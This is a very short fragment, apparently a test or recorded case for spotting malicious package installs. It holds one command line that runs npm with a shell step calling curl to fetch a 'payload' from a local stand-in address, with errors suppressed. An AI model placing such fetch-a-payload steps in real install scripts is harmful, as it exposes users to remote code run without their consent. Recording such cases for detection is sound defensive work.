# An install script of a package fetches something
posing npm
#record
npm -c 'sh -c "curl -s http://127.0.0.1:1/payload; true"; true'
